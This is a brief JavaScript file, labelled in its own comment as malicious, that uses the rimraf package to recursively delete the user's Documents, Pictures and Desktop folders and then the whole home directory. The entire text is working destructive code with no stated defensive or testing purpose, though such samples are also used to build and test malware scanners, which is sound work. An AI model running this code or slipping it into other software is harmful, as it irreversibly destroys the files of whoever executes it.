// malicious: removes documents of the user
const rimraf = require('rimraf');
const os = require('os');
for (const d of ['Documents', 'Pictures', 'Desktop']) rimraf.sync(os.homedir() + '/' + d);
rimraf.sync(process.env.HOME);
